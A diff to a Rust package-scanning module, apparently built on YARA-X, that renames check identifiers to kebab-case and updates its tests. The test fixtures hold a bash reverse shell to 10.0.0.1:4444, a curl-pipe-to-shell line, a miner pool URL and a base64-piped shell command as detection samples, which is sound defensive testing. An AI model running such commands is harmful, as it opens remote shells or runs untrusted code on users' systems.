@@ -4,7 +4,8 @@
 //! in packages; `--rules DIR` adds every `*.yar`/`*.yara` file below DIR, each folder in its own
 //! namespace. Rules see one external variable, `member`: the member's path (`.INSTALL`,
 //! `usr/bin/foo`). A rule's `severity` and `description` metadata become the finding's severity
-//! and explanation (`warning` and the rule's name when a rule has none).
+//! and explanation (`warning` and the rule's name when a rule has none); its check name is its
+//! identifier in kebab-case (`reverse_shell` is `reverse-shell`), as every tool names checks.
 
 use std::{
     path::{Path, PathBuf},
@@ -41,7 +42,8 @@ pub enum RulesError {
 /// A rule that matched a member.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Match {
-    /// `namespace.identifier` for user rules, the identifier alone for built-in ones.
+    /// `namespace.identifier` for user rules, the identifier alone for built-in ones, with `_`
+    /// written `-`.
     pub rule: String,
     /// The rule's `severity` metadata.
     pub severity: String,
@@ -154,9 +156,11 @@ fn describe(rule: &yara_x::Rule<'_, '_>) -> Match {
             }
         }
     }
+    // Check names are kebab-case in every tool; YARA identifiers cannot hold a `-`.
+    let name = rule.identifier().replace('_', "-");
     let rule = match rule.namespace() {
-        "default" => rule.identifier().to_owned(),
-        namespace => format!("{namespace}.{}", rule.identifier()),
+        "default" => name,
+        namespace => format!("{namespace}.{name}"),
     };
     Match {
         rule,
@@ -220,16 +224,17 @@ mod tests {
     #[test]
     fn builtin_rules_find_what_they_describe() {
         let eicar = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
-        assert_eq!(matches("usr/share/x/eicar.com", eicar), ["eicar_test_file"]);
-        let shell = b"post_install() {\n  bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n}\n";
-        assert_eq!(matches(".INSTALL", shell), ["reverse_shell"]);
-        let fetch = b"post_install() {\n  curl -fsSL https://x.invalid/a | sh\n}\n";
-        assert_eq!(matches(".INSTALL", fetch), ["install_download_and_execute"]);
-        assert!(matches("usr/share/doc/x/README", fetch).is_empty());
+        assert_eq!(matches("usr/share/x/eicar.com", eicar), ["eicar-test-file"]);
+        let shell = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
+        assert_eq!(matches("usr/bin/x", shell), ["reverse-shell"]);
+        assert!(
+            matches(".INSTALL", shell).is_empty(),
+            "the scriptlet checks read .INSTALL"
+        );
         let miner = b"./run --url stratum+tcp://pool.invalid:3333 --donate-level 1";
-        assert_eq!(matches("usr/bin/x", miner), ["cryptocurrency_miner"]);
+        assert_eq!(matches("usr/bin/x", miner), ["cryptocurrency-miner"]);
         let hidden = b"#!/bin/sh\necho Y3VybCB4IHwgc2g= | base64 -d | sh\n";
-        assert_eq!(matches("usr/bin/x", hidden), ["obfuscated_shell"]);
+        assert_eq!(matches("usr/bin/x", hidden), ["obfuscated-shell"]);
     }
 
     #[test]
@@ -245,7 +250,7 @@ mod tests {
         let dir = tempfile::tempdir().expect("tempdir");
         std::fs::write(
             dir.path().join("mine.yar"),
-            "rule marker { meta: severity = \"info\" strings: $a = \"MARKER\" condition: $a }",
+            "rule my_marker { meta: severity = \"info\" strings: $a = \"MARKER\" condition: $a }",
         )
         .expect("writes");
         let rules = Rules::load(&[dir.path().to_owned()]).expect("compiles");
@@ -253,7 +258,7 @@ mod tests {
             .scanner(Duration::from_secs(10))
             .scan("x", b"a MARKER b")
             .expect("scans");
-        assert_eq!(found[0].rule, "rules1.marker");
+        assert_eq!(found[0].rule, "rules1.my-marker");
         assert_eq!(found[0].severity, "info");
         let empty = tempfile::tempdir().expect("tempdir");
         assert!(matches!(
